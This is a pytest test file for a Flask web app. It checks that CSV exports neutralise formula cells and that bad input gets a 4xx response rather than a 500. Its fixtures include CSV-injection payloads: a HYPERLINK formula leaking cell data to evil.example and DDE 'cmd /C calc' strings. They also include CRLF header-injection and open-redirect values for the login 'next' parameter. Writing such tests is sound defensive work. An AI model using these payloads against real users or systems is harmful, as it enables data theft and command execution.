"""Hostile input (issue 11, points 5, 9 and 10): formula-like text never reaches a spreadsheet as a formula, bad
input is a 4xx naming the problem (never a 500) and loses nothing stored, flags are JSON booleans and training runs
move only forward through their states."""

from __future__ import annotations

import csv
import html
import io
import json
import sqlite3
from datetime import datetime
from urllib.parse import urlsplit

import pytest
from flask import Flask, request
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.engine import make_url
from werkzeug.exceptions import BadRequest
from werkzeug.routing import IntegerConverter

from tests.conftest import PASSWORD, TEST_DATABASE_URL, add_user, live_models_of, make_app, signed_in
from tests.test_batch import job_id_of, make_csv, upload, wait_for
from webapp.csv_cells import safe_cell
from webapp.extensions import db
from webapp.jobs.batch import EXTENSION_KEY as BATCH_WORKER
from webapp.models import ApiToken
from webapp.request_input import ID_MAX, whole_number
from webapp.serving.registry import import_bundle
from webapp.training_runs import create_run

SLUG = "test-tasks"
ABSTRACT = (
    "We detect objects in aerial images with a transformer and segment the scene; the method improves the state "
    "of the art on two benchmarks."
)
# Cells a spreadsheet would run: OWASP's list, with the payloads the penetration test used.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def token(app: Flask, name: str, role: str) -> dict[str, str]:
    result = app.test_cli_runner().invoke(args=["tokens", "create", name, "--role", role])
    return {"Authorization": f"Bearer {result.output.strip().splitlines()[-1]}"}


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting like a formula and not a plain number."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),  # numbers stay numbers
        ("+3", "+3"),
        ("1e-4", "1e-4"),
        ("-1e5", "-1e5"),
        ("-1+1", "'-1+1"),
        ("plain text", "plain text"),
        ("", ""),
        (-0.5, -0.5),
        (7, 7),
        (None, None),
    ],
)
def test_safe_cell_quotes_formulas_and_keeps_numbers(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_every_csv_download_neutralises_formula_cells(app: Flask, client: FlaskClient) -> None:
    """Hostile titles and abstracts (anonymous API), notes and labels (curator API), uploaded cells and column
    names (batch): no cell of any CSV the site writes starts like a formula, and the text is kept after a '."""
    ids = []
    for n, payload in enumerate(HOSTILE):
        response = client.post("/api/v1/predict", json={"title": payload, "abstract": f"{payload} {ABSTRACT} {n}"})
        assert response.status_code == 200, response.get_json()
        ids.append(response.get_json()["predictions"][0]["id"])
    admin = token(app, "ada", "admin")
    rename = {"kind": "rename", "from": "Object Detection", "to": "=HYPERLINK(1)"}
    assert client.post(f"/api/v1/taxonomies/{SLUG}/label-changes", json=rename, headers=admin).status_code == 201
    curator = token(app, "cora", "curator")
    for pid, payload in zip(ids, HOSTILE, strict=True):
        body = {"taxonomy": SLUG, "labels": ["=HYPERLINK(1)"], "note": payload, "propose": ["-x"]}
        response = client.post(f"/api/v1/predictions/{pid}/annotations", json=body, headers=curator)
        assert response.status_code == 201, response.get_json()

    downloads = {}
    for kind in ("predictions", "annotations"):
        response = client.get(f"/api/v1/{kind}.csv", headers=curator)
        assert response.status_code == 200
        downloads[kind] = csv_cells(response.get_data(as_text=True))

    curator_page = signed_in(app, "cory", "curator")
    rows = [["id", "title", "abstract", "=evil()", "amount"]]
    rows += [[str(n), payload, f"{ABSTRACT} {n}", payload, "-0.5"] for n, payload in enumerate(HOSTILE)]
    job_id = job_id_of(upload(curator_page, make_csv(rows)))
    assert wait_for(curator_page, job_id)["status"] == "finished"
    for query in ("", "?scores=1"):
        response = curator_page.get(f"/batches/{job_id}/results.csv{query}")
        assert response.status_code == 200
        downloads[f"batch{query}"] = csv_cells(response.get_data(as_text=True))

    for name, cells in downloads.items():
        assert formula_cells(cells) == [], f"{name}.csv has formula cells"
    joined = {name: {cell for row in cells for cell in row} for name, cells in downloads.items()}
    for payload in HOSTILE:  # titles are stored stripped, so "\t=1+1" comes back as "'=1+1"
        assert "'" + payload.strip() in joined["predictions"], payload
    assert "'=HYPERLINK(1)" in joined["annotations"]  # a label (renamed by a label change)
    assert "'" + HOSTILE[1] in joined["annotations"]  # a note
    batch = downloads["batch?scores=1"]
    assert "'=evil()" in batch[0]
    amount = batch[0].index("amount")
    assert {row[amount] for row in batch[1:]} == {"-0.5"}  # a number in the upload stays a number
    scores = [cell for cell, name in zip(batch[1], batch[0], strict=True) if name.startswith(f"{SLUG}:")]
    assert scores and all(0.0 <= float(score) <= 1.0 for score in scores)


# --- point 9: bad input is a 4xx naming the problem, never a 500 ------------------------------------------------

DEEP = "[" * 100_000
TOO_DEEP = "[" * 40 + "]" * 40  # valid JSON, deeper than JSON_MAX_DEPTH
JSON_ENDPOINTS = [
    ("POST", "/api/v1/predict"),
    ("POST", "/api/v1/predictions/1/annotations"),
    ("POST", f"/api/v1/taxonomies/{SLUG}/label-changes"),
    ("POST", f"/api/v1/taxonomies/{SLUG}/thresholds"),
    ("POST", "/api/v1/training-runs"),
    ("PATCH", "/api/v1/training-runs/1"),
]


@pytest.mark.parametrize("body", [DEEP, TOO_DEEP], ids=["100000-brackets", "40-levels"])
@pytest.mark.parametrize(("method", "path"), JSON_ENDPOINTS)
def test_deeply_nested_json_is_a_400_on_every_json_endpoint(
    app: Flask, client: FlaskClient, method: str, path: str, body: str
) -> None:
    admin = token(app, "ada", "admin")
    response = client.open(path, method=method, data=body, content_type="application/json", headers=admin)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert "not valid JSON" in response.get_json()["error"] and "nests deeper than 32" in response.get_json()["error"]


def test_json_a_few_levels_deep_is_still_accepted(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    config = {"config": "default", "nested": {"a": {"b": {"c": [1, [2, [3]]]}}}}
    response = client.post("/api/v1/training-runs", json={"taxonomy": SLUG, "config": config}, headers=admin)
    assert response.status_code == 201 and response.get_json()["config"] == config


def predicted_id(client: FlaskClient) -> int:
    response = client.post("/api/v1/predict", json={"title": "A paper", "abstract": ABSTRACT})
    assert response.status_code == 200
    return response.get_json()["predictions"][0]["id"]


def test_a_lone_surrogate_in_an_annotation_note_is_a_400_naming_the_note(app: Flask, client: FlaskClient) -> None:
    pid = predicted_id(client)
    curator = token(app, "cora", "curator")
    body = {"taxonomy": SLUG, "labels": ["Object Detection"], "note": "bad \ud800 text"}
    response = client.post(f"/api/v1/predictions/{pid}/annotations", json=body, headers=curator)
    assert response.status_code == 400 and "note" in response.get_json()["error"]
    assert "surrogate" in response.get_json()["error"]
    lines = client.get("/api/v1/annotations", headers=curator).get_data(as_text=True)
    assert lines == ""  # nothing stored
    body["note"] = "fine"
    assert client.post(f"/api/v1/predictions/{pid}/annotations", json=body, headers=curator).status_code == 201


def test_a_lone_surrogate_in_a_label_change_note_is_a_400_naming_the_note(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    url = f"/api/v1/taxonomies/{SLUG}/label-changes"
    body = {"kind": "rename", "from": "Object Detection", "to": "Detection", "note": "\udfff"}
    response = client.post(url, json=body, headers=admin)
    assert response.status_code == 400 and "note" in response.get_json()["error"]
    assert client.get(url, headers=admin).get_json()["changes"] == []


def test_a_lone_surrogate_in_a_split_keyword_is_a_400(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    url = f"/api/v1/taxonomies/{SLUG}/label-changes"
    targets = [{"name": "Aerial Detection", "keywords": ["aerial \ud800"]}, {"name": "Other Detection"}]
    response = client.post(url, json={"kind": "split", "label": "Object Detection", "targets": targets}, headers=admin)
    assert response.status_code == 400 and "keywords" in response.get_json()["error"]
    assert client.get(url, headers=admin).get_json()["changes"] == []


@pytest.mark.parametrize(
    "target",
    [
        "/\r\nSet-Cookie: stolen=1",
        "/%0d%0aLocation:%20http://evil.example",
        "/\t/evil.example/",
        "/\n/evil.example/",
    ],
)
def test_control_characters_in_next_never_500_nor_leave_the_site(app: Flask, target: str) -> None:
    add_user(app, "nell", "curator")
    client = app.test_client()
    page = client.get("/login", query_string={"next": target})
    assert page.status_code == 200
    response = client.post("/login", data={"name": "nell", "password": PASSWORD, "next": target})
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    location = response.headers["Location"]
    assert location.startswith("/") and not location.startswith("//"), location
    assert not any(ord(ch) < 32 for ch in location) and not urlsplit(location).netloc, location


@pytest.mark.skipif(bool(TEST_DATABASE_URL), reason="holds SQLite's write lock with a second connection")
def test_read_only_token_calls_answer_while_the_database_is_write_locked(tmp_path, make_bundle) -> None:  # noqa: ANN001
    """A token's first call stamps last_used_at; with another process holding the write lock that stamp cannot be
    written, and the read still answers 200. Later calls within the minute write nothing."""
    app = make_app(tmp_path / "data", SQLITE_BUSY_TIMEOUT=0.2)
    try:
        with app.app_context():
            import_bundle(make_bundle(seed=1), actor="tests")
        curator = token(app, "cora", "curator")
        client = app.test_client()
        path = make_url(app.config["SQLALCHEMY_DATABASE_URI"]).database
        locker = sqlite3.connect(path, isolation_level=None)
        try:
            locker.execute("BEGIN IMMEDIATE")
            for url in ("/api/v1/annotations", "/api/v1/annotations.csv", "/api/v1/predictions.jsonl"):
                response = client.get(url, headers=curator)
                body = response.get_data(as_text=True)  # read the streamed exports to their end
                assert response.status_code == 200, (url, body[:300])
        finally:
            locker.rollback()
            locker.close()
        assert client.get("/api/v1/annotations", headers=curator).status_code == 200
        first = last_used(app)
        assert first is not None
        assert client.get("/api/v1/annotations", headers=curator).status_code == 200
        assert last_used(app) == first  # at most one write a minute per token
    finally:
        live_models_of(app).stop()
        app.extensions[BATCH_WORKER].stop()
        with app.app_context():
            db.engine.dispose()


def last_used(app: Flask) -> datetime | None:
    with app.app_context():
        return db.session.scalar(select(ApiToken.last_used_at))


# --- point 10: flags are booleans, training runs move forward only, progress is typed --------------------------


@pytest.mark.parametrize("flag", [1, 0, "true", "yes", None, [], {}])
def test_preview_must_be_a_json_boolean(app: Flask, client: FlaskClient, flag: object) -> None:
    admin = token(app, "ada", "admin")
    url = f"/api/v1/taxonomies/{SLUG}/label-changes"
    body = {"kind": "rename", "from": "Object Detection", "to": "Detection", "preview": flag}
    response = client.post(url, json=body, headers=admin)
    assert response.status_code == 400 and '"preview" must be true or false' in response.get_json()["error"]
    assert client.get(url, headers=admin).get_json()["changes"] == []  # nothing applied


def test_preview_true_previews_and_false_applies(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    url = f"/api/v1/taxonomies/{SLUG}/label-changes"
    body = {"kind": "rename", "from": "Object Detection", "to": "Detection"}
    previewed = client.post(url, json={**body, "preview": True}, headers=admin)
    assert previewed.status_code == 200 and "preview" in previewed.get_json()
    assert client.get(url, headers=admin).get_json()["changes"] == []
    assert client.post(url, json={**body, "preview": False}, headers=admin).status_code == 201
    assert len(client.get(url, headers=admin).get_json()["changes"]) == 1


def start_run(client: FlaskClient, admin: dict[str, str]) -> int:
    response = client.post("/api/v1/training-runs", json={"taxonomy": SLUG, "config": {}}, headers=admin)
    assert response.status_code == 201 and response.get_json()["status"] == "running"
    return response.get_json()["id"]


def patch_run(client: FlaskClient, admin: dict[str, str], run_id: int, body: object):  # noqa: ANN201 - test helper
    return client.patch(f"/api/v1/training-runs/{run_id}", json=body, headers=admin)


def queued_run(app: Flask) -> int:
    with app.app_context():
        return create_run(SLUG, {}, requested_by="tests", queued=True).id


@pytest.mark.parametrize("ended", ["finished", "failed"])
def test_nothing_leaves_an_ended_training_run(app: Flask, client: FlaskClient, ended: str) -> None:
    admin = token(app, "ada", "admin")
    run_id = start_run(client, admin)
    assert patch_run(client, admin, run_id, {"stage": "fitting", "step": 3}).status_code == 200  # running -> running
    assert patch_run(client, admin, run_id, {"status": ended}).status_code == 200
    before = client.get(f"/api/v1/training-runs/{run_id}", headers=admin).get_json()
    for update in ({"status": "queued"}, {"status": "running"}, {"status": ended}, {"step": 4}):
        response = patch_run(client, admin, run_id, update)
        assert response.status_code == 409, (update, response.get_json())
        error = response.get_json()["error"]
        assert f"is {ended}" in error and (update.get("status") or ended) in error
    assert client.post("/api/v1/training-runs/claim", headers=admin).status_code == 204  # never claimed again
    assert client.get(f"/api/v1/training-runs/{run_id}", headers=admin).get_json() == before


def test_a_queued_run_is_claimed_or_failed_before_anything_else(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    run_id = queued_run(app)
    for update in ({"status": "finished"}, {"step": 1}, {"status": "queued"}):
        response = patch_run(client, admin, run_id, update)
        assert response.status_code == 409 and "is queued" in response.get_json()["error"]
    claimed = client.post("/api/v1/training-runs/claim", headers=admin)
    assert claimed.status_code == 200 and claimed.get_json()["id"] == run_id
    assert patch_run(client, admin, run_id, {"status": "queued"}).status_code == 409
    other = queued_run(app)
    failed = patch_run(client, admin, other, {"status": "failed", "error": "ConfigError: no such config"})
    assert failed.status_code == 200 and failed.get_json()["finished_at"] is not None


GATE = {"passed": True, "reason": "passed", "candidate_micro_f1": 0.5, "active_micro_f1": None, "drift": 0.01}


@pytest.mark.parametrize(
    ("update", "field"),
    [
        ({"error": 5}, "error"),
        ({"error": ["x"]}, "error"),
        ({"candidate_version": 7}, "candidate_version"),
        ({"candidate_version": {"id": "x"}}, "candidate_version"),
        ({"candidate_version": "x" * 81}, "candidate_version"),
        ({"stage": "x" * 201}, "stage"),
        ({"stage": 3}, "stage"),
        ({"epoch": -1}, "epoch"),
        ({"epoch": 1.5}, "epoch"),
        ({"epoch": True}, "epoch"),
        ({"step": "3"}, "step"),
        ({"total_steps": 2**60}, "total_steps"),
        ({"loss": "low"}, "loss"),
        ({"loss": -0.1}, "loss"),
        ({"eta_seconds": None}, "eta_seconds"),
        ({"validation_micro_f1": 1.5}, "validation_micro_f1"),
        ({"metrics": [1, 2]}, "metrics"),
        ({"metrics": {"micro_f1": "high"}}, "metrics.micro_f1"),
        ({"gate": {**GATE, "passed": 1}}, "gate.passed"),
        ({"gate": {**GATE, "drift": "none"}}, "gate.drift"),
        ({"gate": {"passed": True}}, "gate"),
        ({"status": "done"}, "status"),
        ({"status": 1}, "status"),
        ({"activated": True}, "activated"),
        ({"stgae": "typo"}, "stgae"),
    ],
)
def test_training_run_fields_are_typed(app: Flask, client: FlaskClient, update: dict, field: str) -> None:
    admin = token(app, "ada", "admin")
    run_id = start_run(client, admin)
    assert patch_run(client, admin, run_id, {"stage": "reading", "epoch": 1}).status_code == 200
    before = client.get(f"/api/v1/training-runs/{run_id}", headers=admin).get_json()
    response = patch_run(client, admin, run_id, update)
    assert response.status_code == 400, response.get_json()
    assert response.get_json()["error"].startswith(field) or f"fields: {field}" in response.get_json()["error"]
    assert client.get(f"/api/v1/training-runs/{run_id}", headers=admin).get_json() == before


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_training_run_numbers_are_finite(app: Flask, client: FlaskClient, literal: str) -> None:
    admin = token(app, "ada", "admin")
    run_id = start_run(client, admin)
    response = client.patch(
        f"/api/v1/training-runs/{run_id}", data=f'{{"loss": {literal}}}', content_type="application/json", headers=admin
    )
    assert response.status_code == 400 and "loss is a number that is not finite" in response.get_json()["error"]


def test_what_the_trainer_reports_is_accepted(app: Flask, client: FlaskClient) -> None:
    """The updates trainer/ sends through a whole run (progress, metrics, the gate) all pass the checks."""
    admin = token(app, "ada", "admin")
    run_id = start_run(client, admin)
    updates = [
        {"status": "running", "stage": "preparing the encoder"},
        {"status": "running", "stage": "fine-tuning the encoder", "epoch": 1, "step": 20, "total_steps": 40}
        | {"loss": 0.31234, "eta_seconds": 12},
        {"status": "running", "stage": "fine-tuning the encoder", "epoch": 1, "step": 40, "total_steps": 40}
        | {"loss": 0.2, "validation_micro_f1": 0.6123},
        {"metrics": {"micro_f1": 0.6, "macro_f1": 0.4, "micro_precision": 0.7, "micro_recall": 0.5, "examples": 30}},
        {"status": "finished", "candidate_version": "test-tasks-abc", "gate": GATE},
    ]
    for update in updates:
        response = patch_run(client, admin, run_id, update)
        assert response.status_code == 200, (update, response.get_json())
    run = response.get_json()
    assert run["status"] == "finished" and run["gate"] == GATE and run["progress"]["validation_micro_f1"] == 0.6123


# --- what a sweep of every route sent (session 14): each was a 500 -----------------------------------------------


def test_every_id_in_a_url_stops_at_the_database_integer(app: Flask) -> None:
    """Every ``<int:...>`` route is bounded (PostgreSQL's integer overflowed past 2**31, SQLite's past 2**63)."""
    bounded = [
        (rule.rule, converter.max)
        for rule in app.url_map.iter_rules()
        for converter in rule._converters.values()  # noqa: SLF001 - werkzeug keeps a rule's converters there
        if isinstance(converter, IntegerConverter)
    ]
    assert len(bounded) >= 20 and {high for _, high in bounded} == {ID_MAX}, bounded


@pytest.mark.parametrize(
    "path",
    [
        "/predictions/{id}",
        "/api/v1/predictions/{id}/similar",
        "/api/v1/predictions/{id}/explanation",
        "/api/v1/training-runs/{id}",
        "/batches/{id}",
    ],
)
def test_an_id_past_the_database_integer_is_no_page(app: Flask, client: FlaskClient, path: str) -> None:
    pid = predicted_id(client)
    admin = signed_in(app, "ada", "admin")
    headers = token(app, "adam", "admin")
    for too_large in (ID_MAX + 1, 2**63):
        response = admin.get(path.format(id=too_large), headers=headers)
        assert response.status_code == 404, response.get_data(as_text=True)[:300]
    if "{id}" in path and path.startswith(("/predictions", "/api/v1/predictions")):
        assert admin.get(path.format(id=pid), headers=headers).status_code == 200


def test_bulk_ids_past_the_database_integer_are_a_400(app: Flask, client: FlaskClient) -> None:
    pid = predicted_id(client)
    curator = token(app, "cora", "curator")
    for ids in ([ID_MAX + 1], [2**63 - 1], [pid, 2**40]):
        body = {"taxonomy": SLUG, "action": "accept", "ids": ids, "dry_run": True}
        response = client.post("/api/v1/annotations/bulk", json=body, headers=curator)
        assert response.status_code == 400 and '"ids"' in response.get_json()["error"], response.get_json()
    page = signed_in(app, "cory", "curator").post(
        "/curate/bulk", data={"taxonomy": SLUG, "action": "accept", "resolved_ids": f"{pid},{ID_MAX + 1}"}
    )
    assert page.status_code == 400 and f"up to {ID_MAX}" in page.get_data(as_text=True)


def test_a_list_where_a_word_is_expected_is_a_400(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    run_id = start_run(client, admin)
    response = patch_run(client, admin, run_id, {"phase": []})
    assert response.status_code == 400 and response.get_json()["error"].startswith("phase")
    pid = predicted_id(client)
    body = {"taxonomy": SLUG, "action": ["accept"], "ids": [pid], "dry_run": True}
    response = client.post("/api/v1/annotations/bulk", json=body, headers=token(app, "cora", "curator"))
    assert response.status_code == 400 and "action must be one of" in response.get_json()["error"]


@pytest.mark.parametrize(
    ("value", "error"),
    [
        ('"\\u0000"', "the body cannot be stored: abstract holds a NUL character"),
        ('"a\\ud800"', "the body cannot be stored: abstract holds an unpaired surrogate"),
        ('{"\\udfff": 1}', "the body cannot be stored: abstract has a key that holds an unpaired surrogate"),
        (str(2**64), "the body cannot be stored: abstract is a number out of range (past 64 bits)"),
        ("1e999", "the body cannot be stored: abstract is a number that is not finite"),
        ("NaN", "the body cannot be stored: abstract is a number that is not finite"),
        ("9" * 5000, "the body is not valid JSON: Exceeds the limit (4300 digits)"),
    ],
    ids=["nul", "surrogate", "surrogate-key", "2**64", "1e999", "nan", "5000-digits"],
)
@pytest.mark.parametrize(("method", "path"), JSON_ENDPOINTS)
def test_json_that_cannot_be_stored_is_a_400_on_every_json_endpoint(
    app: Flask, client: FlaskClient, method: str, path: str, value: str, error: str
) -> None:
    """Before, a NUL or an unpaired surrogate reached the database (PostgreSQL refused it, SQLite stored what could
    not be answered as UTF-8), NaN in a training run's config answered invalid JSON, and huge integers overflowed.
    The first value in the body is named (``abstract``)."""
    admin = token(app, "ada", "admin")
    body = f'{{"abstract": {value}, "taxonomy": {value}, "config": {{"x": {value}}}}}'
    response = client.open(path, method=method, data=body, content_type="application/json", headers=admin)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert response.get_json()["error"].startswith(error)


def test_an_unstorable_value_is_named_by_a_short_path() -> None:
    from webapp.json_values import UnstorableJSON, check_json

    body = {"targets": [{"name": "ok"}, {"keywords": ["fine", "bad \x00"]}], "k" * 1000: [0] * 10}
    with pytest.raises(UnstorableJSON, match=r"^targets\[1\]\.keywords\[1\] holds a NUL character$"):
        check_json(body, 32)
    with pytest.raises(UnstorableJSON) as raised:
        check_json({"k" * 1000: [0, 1, 2**70]}, 32)
    assert str(raised.value) == "k" * 40 + "[2] is a number out of range (past 64 bits)"
    check_json({"k" * 100_000: [0] * 100_000, "emoji": "😀 naïve", "big": -(2**63), "x": 1e308}, 32)


def test_storable_unicode_is_still_accepted(app: Flask, client: FlaskClient) -> None:
    admin = token(app, "ada", "admin")
    config = {"note": "naïve 😀 ∑", "big": 2**62, "small": -(2**63), "x": 1e300}
    response = client.post("/api/v1/training-runs", json={"taxonomy": SLUG, "config": config}, headers=admin)
    assert response.status_code == 201 and response.get_json()["config"] == config


@pytest.mark.parametrize(
    "path",
    [
        "/history?page=²",
        "/history?batch=²",
        "/curate/queue?page=²",
        "/label-issues?page=٣",
        "/api/v1/predictions/{id}/similar?k=²",
    ],
)
def test_digits_that_are_not_ascii_are_a_400(app: Flask, client: FlaskClient, path: str) -> None:
    """``str.isdigit`` passes "²" and "٣", which ``int`` refuses (a 500 before)."""
    pid = predicted_id(client)
    response = signed_in(app, "ada", "admin").get(path.format(id=pid))
    assert response.status_code == 400, response.get_data(as_text=True)[:300]


def test_review_forms_posted_without_fields_never_500(app: Flask, client: FlaskClient) -> None:
    """A review form with no fields lacks the event it was based on: refused, nothing stored. An adjudication with
    no fields is what the page sends with every box unticked: the final answer is no label."""
    pid = predicted_id(client)
    curator = signed_in(app, "cora", "curator")
    for path in (f"/curate/predictions/{pid}", f"/curate/predictions/{pid}/{SLUG}"):
        response = curator.post(path)
        assert response.status_code == 400, response.get_data(as_text=True)[:300]
        assert "the form is missing the event it was based on" in response.get_data(as_text=True)
    reader = token(app, "cy", "curator")
    assert client.get("/api/v1/annotations", headers=reader).get_data(as_text=True) == ""
    adjudicator = signed_in(app, "adele", "adjudicator")
    response = adjudicator.post(f"/agreement/{SLUG}/{pid}", follow_redirects=True)
    assert response.status_code == 200 and f"Resolved #{pid} in" in response.get_data(as_text=True)
    (line,) = client.get("/api/v1/annotations", headers=reader).get_data(as_text=True).splitlines()
    assert [event["kind"] for event in json.loads(line)["events"]] == ["adjudicated"]


@pytest.mark.parametrize(
    ("method", "path", "data", "where"),
    [
        ("POST", "/login", {"name": "a\x00b", "password": PASSWORD}, "the form's 'name'"),
        ("GET", "/login?next=/%00admin", None, "the query string's 'next'"),
        ("GET", "/history?q=a%00b", None, "the query string's 'q'"),
        ("GET", "/history?q=fine&q=a%00b", None, "the query string's 'q'"),
        ("GET", "/api/v1/models?taxonomy=%00", None, "the query string's 'taxonomy'"),
        ("GET", "/taxonomies/a%00b/labels", None, "the URL"),
        ("POST", "/account/tokens", {"name": "a\x00b", "expires": "90"}, "the form's 'name'"),
        (
            "POST",
            "/batches",
            {"file": (io.BytesIO(b"title,abstract\nt,An abstract.\n"), "a\x00b.csv")},
            "the name of the file in 'file'",
        ),
    ],
    ids=["login", "login-next", "search", "search-second-value", "api-query", "path", "token-name", "file-name"],
)
def test_a_nul_character_anywhere_in_a_request_is_a_400_naming_where(
    app: Flask, method: str, path: str, data: dict | None, where: str
) -> None:
    """PostgreSQL refuses NUL in any text (a 500 on that pass, from anonymous callers too)."""
    curator = signed_in(app, "cora", "curator")
    response = curator.open(path, method=method, data=data)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert f"{where} holds a NUL character" in html.unescape(response.get_data(as_text=True))


def test_whole_numbers_are_ascii_digits_within_range() -> None:
    assert [whole_number(raw) for raw in ("7", "007", "0" * 30 + "7", str(ID_MAX))] == [7, 7, 7, ID_MAX]
    assert [whole_number(raw) for raw in ("²", "٣", "-1", "+1", " 1", "1.0", "", str(ID_MAX + 1))] == [None] * 8
    assert whole_number("5", high=4) is None


def test_a_form_refused_for_a_nul_is_not_readable_afterwards(app: Flask) -> None:
    """Should a caller catch the 400, the refused fields are gone rather than read as they came."""
    with app.test_request_context("/login", method="POST", data={"name": "a\x00b", "other": "x"}):
        with pytest.raises(BadRequest, match="the form's 'name' holds a NUL character"):
            _ = request.form
        assert dict(request.form) == {} and dict(request.files) == {}
